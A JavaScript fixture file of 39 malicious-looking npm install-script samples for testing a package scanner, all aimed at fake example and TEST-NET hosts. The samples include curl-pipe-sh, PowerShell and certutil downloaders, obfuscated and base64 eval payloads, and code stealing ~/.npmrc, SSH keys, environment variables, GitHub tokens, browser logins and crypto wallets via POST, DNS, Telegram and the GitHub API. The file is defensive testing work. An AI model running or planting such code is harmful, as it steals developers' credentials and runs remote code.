/**
 * Malicious-looking install scripts in the style of 2024–2025 npm malware, for `node eval/scan-eval.mjs
 * --samples`: written to a temp folder, only read by the scanner, never run. Every host is fake
 * (example-style domains, TEST-NET addresses). Written by a trial of 2026-12-01 (39 cases); the
 * first three are controls the scanner caught before.
 */
const b64 = (s) => Buffer.from(s).toString('base64');
const stealer = `const fs=require('fs'),os=require('os');const t=fs.readFileSync(os.homedir()+'/.npmrc','utf8');`;
export const cases = [];
const add = (id, desc, scripts, files = {}) => cases.push({ id, desc, scripts, files });

// ---- controls (should be caught) ----
add('c01-curl-pipe-sh', 'control: curl | sh in postinstall', { postinstall: 'curl -fsSL https://npm-telemetry.example.com/i.sh | sh' });
add('c02-https-get-eval', 'control: https.get + eval', { postinstall: 'node install.js' }, {
  'install.js': `const https=require('https');\nhttps.get('https://cdn.npm-telemetry.example.com/p.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))});\n` });
add('c03-npmrc-webhook', 'control: ~/.npmrc posted with fetch to webhook.site', { postinstall: 'node index.js' }, {
  'index.js': `${stealer}\nfetch('https://webhook.site/0b1c-4d2e',{method:'POST',body:t});\n` });

// ---- shell-level evasions ----
add('m01-sh-c-subshell', 'sh -c "$(curl …)" (oh-my-zsh style)', { postinstall: 'sh -c "$(curl -fsSL https://npm-telemetry.example.com/i.sh)"' });
add('m02-bash-procsub', 'bash <(curl …) process substitution', { preinstall: 'bash <(curl -fsSL https://npm-telemetry.example.com/i.sh) || true' });
add('m03-curl-tee-sh', 'curl | tee | sh (pipe chain)', { postinstall: 'curl -s https://npm-telemetry.example.com/i.sh | tee /tmp/.i | sh' });
add('m04-curl-sLo', 'curl -sLo (combined flags) saved, chmod, run', { postinstall: 'curl -sLo /tmp/.cache-x https://npm-telemetry.example.com/x && chmod +x /tmp/.cache-x && /tmp/.cache-x' });
add('m05-curl-output-long', 'curl --output then run', { install: 'curl -s --output /tmp/u https://npm-telemetry.example.com/u; chmod 755 /tmp/u; /tmp/u &' });
add('m06-python-c-exec', 'python3 -c exec(urlopen().read())', { postinstall: `python3 -c "import urllib.request as u;exec(u.urlopen('https://npm-telemetry.example.com/p.py').read())"` });
add('m07-powershell-iex-webclient', 'PowerShell IEX (New-Object Net.WebClient).DownloadString', { preinstall: `powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('https://npm-telemetry.example.com/a.ps1')"` });
add('m08-certutil', 'Windows certutil download + run', { postinstall: 'certutil -urlcache -split -f https://npm-telemetry.example.com/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe' });
add('m09-node-inputtype-e', 'node --input-type=module -e with fetch+eval (inline code not recognised)', { postinstall: `node --input-type=module -e "const r=await fetch('https://npm-telemetry.example.com/p');eval(await r.text())"` });
add('m10-bun-preinstall', 'preinstall runs a file with bun (file not scanned) — Shai-Hulud 2.0 style', { preinstall: 'bun run setup.js' }, {
  'setup.js': `${stealer}\nconst e=JSON.stringify(process.env);\nfetch('https://api.github.com/repos/x/y/contents/data.json',{method:'PUT',headers:{authorization:'token '+process.env.GITHUB_TOKEN},body:JSON.stringify({message:'up',content:Buffer.from(t+e).toString('base64')})});\n` });

// ---- JavaScript-level evasions ----
add('m11-indirect-eval', 'https.get + (0,eval) / globalThis["ev"+"al"]', { postinstall: 'node install.js' }, {
  'install.js': `const https=require('https');\nhttps.get('https://cdn.npm-telemetry.example.com/p.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>{ (0,eval)(d); globalThis['ev'+'al'](d); })});\n` });
add('m12-function-return-this', "Function('return this')() global + module._compile of a download", { postinstall: 'node install.js' }, {
  'install.js': `const g=Function('return this')();const M=require('module');\nconst {get}=require('https');\nget('https://cdn.npm-telemetry.example.com/p.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>{const m=new M('x');m._compile(d,'x.js');})});\n` });
add('m13-download-write-require', 'download to tmp file, then require() it', { postinstall: 'node install.js' }, {
  'install.js': `const h=require('https'),fs=require('fs'),os=require('os'),p=os.tmpdir()+'/.n.js';\nh.get('https://cdn.npm-telemetry.example.com/p.js',r=>{const f=fs.createWriteStream(p);r.pipe(f);f.on('finish',()=>require(p))});\n` });
add('m14-exec-curl-in-js', 'JS child_process runs curl to post ~/.npmrc and ~/.ssh/id_rsa to a normal-looking host', { postinstall: 'node index.js' }, {
  'index.js': `const {execSync}=require('child_process');\nexecSync('curl -s -X POST --data-binary @$HOME/.npmrc https://npm-metrics.example.com/c');\nexecSync('curl -s -F f=@$HOME/.ssh/id_rsa https://npm-metrics.example.com/k');\n` });
add('m15-exec-concat', "require('child_process').exec with concatenated curl|sh and split IP", { postinstall: 'node index.js' }, {
  'index.js': `const cp=require('child'+'_process');\nconst host='198.51'+'.100.23';\ncp['ex'+'ec']('cu'+'rl -s http://'+host+'/x | s'+'h');\n` });
add('m16-alias-request-npmrc', "~/.npmrc read with path pieces; network via aliased https module (h.request)", { postinstall: 'node index.js' }, {
  'index.js': `const fs=require('fs'),os=require('os'),path=require('path'),h=require('https');\nconst t=fs.readFileSync(path.join(os.homedir(),'.np'+'mrc'),'utf8');\nconst q=h.request({hostname:'npm-metrics.example.com',path:'/c',method:'POST'});q.end(t);\n` });
add('m17-env-spread', 'whole environment via {...process.env} posted with destructured request()', { postinstall: 'node index.js' }, {
  'index.js': `const {request}=require('https');\nconst env={...process.env};\nconst q=request({hostname:'npm-metrics.example.com',path:'/e',method:'POST'});q.end(Buffer.from(JSON.stringify(env)).toString('base64'));\n` });
add('m18-split-files', 'credential read in one file, network in the required helper (per-file rule)', { postinstall: 'node index.js' }, {
  'index.js': `${stealer}\nrequire('./send')(t+JSON.stringify(process.env));\n`,
  'send.js': `module.exports=(d)=>fetch('https://npm-metrics.example.com/c',{method:'POST',body:d});\n` });
add('m19-dns-exfil-oast', 'recon exfil over DNS to an oast host without a URL scheme', { preinstall: 'node index.js' }, {
  'index.js': `const dns=require('dns'),os=require('os');\nconst d=Buffer.from(os.hostname()+'|'+os.userInfo().username+'|'+process.cwd()).toString('hex');\nfor(let i=0;i<d.length;i+=60)dns.lookup(d.slice(i,i+60)+'.'+i+'.cq2x1k.oast.fun',()=>{});\n` });
add('m20-telegram-recon', 'recon (hostname/user/ip) to Telegram bot (no credential pattern)', { postinstall: 'node index.js' }, {
  'index.js': `const os=require('os');\nfetch('https://api.telegram.org/bot7012345678:AAH-fake/sendMessage',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({chat_id:'-1001',text:[os.hostname(),os.userInfo().username,JSON.stringify(os.networkInterfaces())].join('\\n')})});\n` });
add('m21-short-b64-eval', 'short base64 downloader (<200 chars) decoded and new Function()', { postinstall: 'node index.js' }, {
  'index.js': `new Function(Buffer.from('${b64("require('https').get('https://cdn.npm-telemetry.example.com/p',r=>{let d='';r.on('data',c=>d+=c).on('end',()=>eval(d))})")}','base64').toString())();\n` });
add('m22-split-b64-eval', 'long base64 payload split into concatenated chunks, then eval', { postinstall: 'node index.js' }, {
  'index.js': (() => { const p = b64(`${stealer}require('https').request({hostname:'npm-metrics.example.com',method:'POST'}).end(t);`.repeat(3)); const parts = p.match(/.{1,120}/g).map((s) => `'${s}'`).join('+\n'); return `const p=${parts};\neval(Buffer.from(p,'base64').toString());\n`; })() });
add('m23-long-b64-eval', 'control-ish: one long base64 blob evaluated (encoded-eval is only medium)', { postinstall: 'node index.js' }, {
  'index.js': `eval(Buffer.from('${b64(`${stealer}require('https').request({hostname:'npm-metrics.example.com',method:'POST'}).end(t);`.repeat(3))}','base64').toString());\n` });
add('m24-hex-array', 'payload as a numeric char-code array + Function', { postinstall: 'node index.js' }, {
  'index.js': `const a=[${[...`${stealer}require('https').request({hostname:'npm-metrics.example.com',method:'POST'}).end(t);`].map((c) => c.charCodeAt(0)).join(',')}];\nFunction(String.fromCharCode(...a))();\n` });
add('m25-obfuscated-0x-few', 'javascript-obfuscator style (22 _0x names) stealer: .npmrc read + POST, split strings', { postinstall: 'node index.js' }, {
  'index.js': `var _0x1a2b=['\\x72\\x65\\x61\\x64\\x46\\x69\\x6c\\x65\\x53\\x79\\x6e\\x63','\\x68\\x6f\\x6d\\x65\\x64\\x69\\x72'];(function(_0x3c4d,_0x5e6f){var _0x7a8b=function(_0x9c0d){while(--_0x9c0d){_0x3c4d['push'](_0x3c4d['shift']());}};_0x7a8b(++_0x5e6f);}(_0x1a2b,0x1f4));var _0x2b3c=function(_0x4d5e,_0x6f7a){_0x4d5e=_0x4d5e-0x0;var _0x8b9c=_0x1a2b[_0x4d5e];return _0x8b9c;};var _0xfs=require('fs'),_0xos=require('os');var _0xd=_0xfs[_0x2b3c('0x0')](_0xos[_0x2b3c('0x1')]()+'/.npm'+'rc','utf8');require('ht'+'tps')['req'+'uest']({'hostname':'npm-metrics.example.com','method':'POST'})['end'](_0xd);\n` });
add('m26-obfuscated-mangled', 'obfuscator with mangled (short) names + hex-escaped strings', { postinstall: 'node index.js' }, {
  'index.js': `var a=['\\x2e\\x6e\\x70\\x6d\\x72\\x63','\\x68\\x74\\x74\\x70\\x73','\\x72\\x65\\x71\\x75\\x65\\x73\\x74'];var b=function(c){return a[c]};var d=require('fs')['readFileSync'](require('os')['homedir']()+'/'+b(0));require(b(1))[b(2)]({hostname:'npm-metrics.example.com',method:'POST'})['end'](d);\n` });
add('m27-bundled-bin-via-js', 'bundled ELF run from install.js with a computed path', { postinstall: 'node install.js' }, {
  'install.js': `const {spawn}=require('child_process'),path=require('path');\nspawn(path.join(__dirname,'bin','helper'),[],{detached:true,stdio:'ignore'}).unref();\n`,
  'bin/helper': '@ELF' });
add('m28-bundled-bin-direct', 'control-ish: postinstall runs ./bin/helper (ELF) directly (medium only)', { postinstall: './bin/helper' }, { 'bin/helper': '@ELF' });
add('m29-shai-hulud-big-bundle', 'Shai-Hulud style: >2 MB bundle.js runs trufflehog, reads GITHUB_TOKEN/.npmrc, calls api.github.com', { postinstall: 'node bundle.js' }, {
  'bundle.js': `${stealer}\nconst {execSync}=require('child_process');\nconst s=execSync('trufflehog filesystem '+os.homedir()+' --json').toString();\nfetch('https://api.github.com/user/repos',{method:'POST',headers:{authorization:'token '+process.env.GITHUB_TOKEN},body:JSON.stringify({name:'Shai-Hulud'})});\n` + `var pad=function(n){return n+1};\n`.repeat(70000) });
add('m30-process-binding', 'process.binding spawn_sync to run curl|sh (no child_process)', { postinstall: 'node index.js' }, {
  'index.js': `const s=process.binding('spawn_sync');\ns.spawn({file:'/bin/sh',args:['sh','-c','curl -s https://npm-telemetry.example.com/i | sh'],stdio:[{type:'pipe',readable:true},{type:'inherit'},{type:'inherit'}]});\n` });
add('m31-setup-bun-shai2', 'Shai-Hulud 2.0 setup_bun.js: installs bun via curl|bash inside execSync, then runs bun_environment.js', { preinstall: 'node setup_bun.js' }, {
  'setup_bun.js': `const {execSync,spawn}=require('child_process');\ntry{execSync('bun --version')}catch{execSync('curl -fsSL https://bun.sh/install | bash',{stdio:'ignore'})}\nspawn(process.env.HOME+'/.bun/bin/bun',['bun_environment.js'],{detached:true,stdio:'ignore'}).unref();\n`,
  'bun_environment.js': `${stealer}\nfetch('https://api.github.com/user/repos',{method:'POST',headers:{authorization:'token '+process.env.GITHUB_TOKEN},body:t});\n` });
add('m32-browser-wallet', 'browser login-data / crypto-wallet theft uploaded (no listed credential path)', { postinstall: 'node index.js' }, {
  'index.js': `const fs=require('fs'),os=require('os'),p=os.homedir()+'/.config/google-chrome/Default/';\nconst files=['Login Data','Cookies','Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn'].map(f=>p+f);\nconst fd=new FormData();for(const f of files){try{fd.append(f,new Blob([fs.readFileSync(f)]))}catch{}}\nfetch('https://npm-metrics.example.com/u',{method:'POST',body:fd});\n` });
add('m33-npx-remote', 'postinstall runs a remote package/script via npx (fetched at install, never vetted)', { postinstall: 'npx -y https://npm-telemetry.example.com/pkg.tgz' });

add('m16b-alias-only', 'isolated: plain ~/.npmrc read, network only via aliased module (const h=require("https"); h.request)', { postinstall: 'node index.js' }, {
  'index.js': `const fs=require('fs'),os=require('os'),h=require('https');\nconst t=fs.readFileSync(os.homedir()+'/.npmrc','utf8');\nh.request({hostname:'npm-metrics.example.com',path:'/c',method:'POST'}).end(t);\n` });
add('m17b-env-spread-fetch', 'isolated: JSON.stringify({...process.env}) posted with fetch', { postinstall: 'node index.js' }, {
  'index.js': `fetch('https://npm-metrics.example.com/e',{method:'POST',body:JSON.stringify({...process.env})});\n` });
add('m12b-module-compile', 'isolated: https.get download run with module._compile', { postinstall: 'node install.js' }, {
  'install.js': `const https=require('https'),M=require('module');\nhttps.get('https://cdn.npm-telemetry.example.com/p.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>new M('x')._compile(d,'x.js'))});\n` });

export const ELF = '@ELF';
